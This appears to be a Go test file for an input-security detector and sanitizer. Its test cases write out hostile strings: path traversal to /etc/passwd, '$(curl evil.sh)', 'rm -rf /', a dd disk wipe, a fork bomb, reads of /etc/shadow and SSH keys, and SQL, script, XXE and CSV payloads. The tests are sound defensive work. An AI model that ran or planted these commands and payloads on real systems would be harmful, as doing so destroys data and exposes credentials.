package security

import (
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestAnalyzeValueNonString(t *testing.T) {
	detector := NewDetector()

	testCases := []struct {
		name  string
		input interface{}
	}{
		{"nil input", nil},
		{"integer input", 42},
		{"bool input", true},
		{"slice input", []string{"../../etc/passwd"}},
		{"map input", map[string]string{"path": "../.."}},
	}

	for _, tc := range testCases {
		t.Run(tc.name, func(t *testing.T) {
			result := detector.AnalyzeValue(tc.input)
			assert.True(t, result.IsSecure)
			assert.Empty(t, result.Violations)
			assert.Equal(t, 0, result.RiskScore)
		})
	}
}

func TestAnalyzeCleanInput(t *testing.T) {
	detector := NewDetector()

	for _, input := range []string{
		"",
		"my-project",
		"docs/readme.md",
		"npm",
		"hello world",
		"user@example.com",
	} {
		result := detector.Analyze(input)
		assert.True(t, result.IsSecure, "input %q should be secure", input)
		assert.Empty(t, result.Violations)
		assert.Equal(t, 0, result.RiskScore)
	}
}

func TestAnalyzePathTraversal(t *testing.T) {
	detector := NewDetector()

	result := detector.Analyze("../../../etc/passwd")

	require.False(t, result.IsSecure)
	assert.GreaterOrEqual(t, result.RiskScore, 40)

	var found *Violation
	for i := range result.Violations {
		if result.Violations[i].Type == ViolationPathTraversal {
			found = &result.Violations[i]
			break
		}
	}
	require.NotNil(t, found, "expected a path-traversal violation")
	assert.Equal(t, SeverityCritical, found.Severity)

	// The same input also references a system credential file
	types := violationTypes(result.Violations)
	assert.Contains(t, types, ViolationSensitiveFileAccess)
}

func TestAnalyzeEncodedTraversal(t *testing.T) {
	detector := NewDetector()

	for _, input := range []string{
		"%2e%2e%2fetc",
		"%252e%252e/secret",
		`../config`,
		"%c0%ae%c0%ae/bin",
	} {
		result := detector.Analyze(input)
		assert.False(t, result.IsSecure, "input %q should be flagged", input)
		assert.Contains(t, violationTypes(result.Violations), ViolationPathTraversal)
	}
}

func TestAnalyzeCommandInjection(t *testing.T) {
	detector := NewDetector()

	testCases := []struct {
		input    string
		expected ViolationType
	}{
		{"foo; rm data", ViolationCommandInjection},
		{"$(curl evil.sh)", ViolationCommandInjection},
		{"`id`", ViolationCommandInjection},
		{"cat${IFS}file", ViolationCommandInjection},
		{"rm -rf /", ViolationDangerousCommand},
		{"dd if=/dev/zero of=/dev/sda", ViolationDangerousCommand},
		{":(){ :|:& };:", ViolationDangerousCommand},
	}

	for _, tc := range testCases {
		t.Run(tc.input, func(t *testing.T) {
			result := detector.Analyze(tc.input)
			require.False(t, result.IsSecure)
			assert.Contains(t, violationTypes(result.Violations), tc.expected)
		})
	}
}

func TestAnalyzeInjectionCategories(t *testing.T) {
	detector := NewDetector()

	testCases := []struct {
		name     string
		input    string
		expected ViolationType
	}{
		{"script tag", "<script>alert(1)</script>", ViolationScriptInjection},
		{"javascript url", "javascript:alert(1)", ViolationScriptInjection},
		{"sql union", "1 UNION SELECT password FROM users", ViolationSQLInjection},
		{"sql tautology", "' OR '1'='1", ViolationSQLInjection},
		{"nosql operator", `{"$ne": null}`, ViolationNoSQLInjection},
		{"template mustache", "{{7*7}}", ViolationTemplateInjection},
		{"template dollar brace", "${7*7}", ViolationTemplateInjection},
		{"eval call", "eval(atob('payload'))", ViolationEvalUsage},
		{"function constructor", "new Function('return 1')", ViolationEvalUsage},
		{"sudo", "sudo cat /etc/shadow", ViolationPrivilegeEscalation},
		{"chmod 777", "chmod 777 /usr/bin", ViolationPrivilegeEscalation},
		{"ssh key", "~/.ssh/id_rsa", ViolationSensitiveFileAccess},
		{"java gadget", "rO0ABXNyABdqYXZh", ViolationDeserializationGadget},
		{"pickle", "pickle.loads(data)", ViolationDeserializationGadget},
		{"xxe entity", `<!ENTITY xxe SYSTEM "file:///etc/passwd">`, ViolationXXE},
		{"ldap filter", "*)(objectClass=*", ViolationLDAPInjection},
		{"xpath tautology", "' or 'a'='a", ViolationXPathInjection},
		{"el expression", "#{1+1}", ViolationExpressionInjection},
		{"csv formula", "=cmd|' /C calc'!A0", ViolationCSVInjection},
	}

	for _, tc := range testCases {
		t.Run(tc.name, func(t *testing.T) {
			result := detector.Analyze(tc.input)
			require.False(t, result.IsSecure, "input %q should be flagged", tc.input)
			assert.Contains(t, violationTypes(result.Violations), tc.expected)
		})
	}
}

func TestAnalyzeUnicodeAbuse(t *testing.T) {
	detector := NewDetector()

	t.Run("bidi override", func(t *testing.T) {
		result := detector.Analyze("file‮txt.exe")
		assert.Contains(t, violationTypes(result.Violations), ViolationUnicodeAbuse)
	})

	t.Run("zero width", func(t *testing.T) {
		result := detector.Analyze("admin​user")
		assert.Contains(t, violationTypes(result.Violations), ViolationUnicodeAbuse)
	})

	t.Run("mixed script homograph", func(t *testing.T) {
		// Cyrillic 'а' amid Latin letters
		result := detector.Analyze("pаypal")
		assert.Contains(t, violationTypes(result.Violations), ViolationUnicodeAbuse)
	})
}

func TestRiskScoreClamped(t *testing.T) {
	detector := NewDetector()

	// Stack multiple critical categories in one input
	input := "eval($(rm -rf /)); ../../etc/passwd; pickle.loads(x); <script>"
	result := detector.Analyze(input)

	require.False(t, result.IsSecure)
	assert.Equal(t, 100, result.RiskScore)
}

func TestAnalyzeAdversarialInputBounded(t *testing.T) {
	detector := NewDetector()

	// Megabyte-scale hostile input must complete quickly and stay clamped
	input := strings.Repeat("a;b$(c)../", 400_000) // ~4 MB

	start := time.Now()
	result := detector.Analyze(input)
	elapsed := time.Since(start)

	assert.False(t, result.IsSecure)
	assert.LessOrEqual(t, result.RiskScore, 100)
	assert.Contains(t, violationTypes(result.Violations), ViolationOversizedInput)
	assert.Less(t, elapsed, 2*time.Second)
}

func TestWeightOverrides(t *testing.T) {
	detector := NewDetector(WithWeights(Weights{ViolationPathTraversal: 10}))

	result := detector.Analyze("../x")
	require.False(t, result.IsSecure)
	assert.Equal(t, 10, result.RiskScore)
}

func TestSanitize(t *testing.T) {
	testCases := []struct {
		name     string
		input    string
		excluded []string
	}{
		{"traversal stripped", "../../etc/passwd", []string{"../"}},
		{"substitution stripped", "a$(whoami)b", []string{"$(", "whoami"}},
		{"backticks stripped", "x`id`y", []string{"`", "id"}},
		{"shell chars removed", "a;b|c&d", []string{";", "|", "&"}},
		{"angle brackets escaped", "<script>", []string{"<script>"}},
		{"zero width removed", "a​b", []string{"​"}},
	}

	for _, tc := range testCases {
		t.Run(tc.name, func(t *testing.T) {
			out := Sanitize(tc.input)
			for _, bad := range tc.excluded {
				assert.NotContains(t, out, bad)
			}
		})
	}
}

func TestSeverityOrdering(t *testing.T) {
	assert.True(t, SeverityCritical.AtLeast(SeverityHigh))
	assert.True(t, SeverityHigh.AtLeast(SeverityMedium))
	assert.True(t, SeverityMedium.AtLeast(SeverityLow))
	assert.False(t, SeverityLow.AtLeast(SeverityMedium))
	assert.Equal(t, SeverityCritical, SeverityHigh.Max(SeverityCritical))
	assert.Equal(t, SeverityHigh, SeverityHigh.Max(SeverityLow))
}

func violationTypes(violations []Violation) []ViolationType {
	types := make([]ViolationType, 0, len(violations))
	for _, v := range violations {
		types = append(types, v.Type)
	}
	return types
}
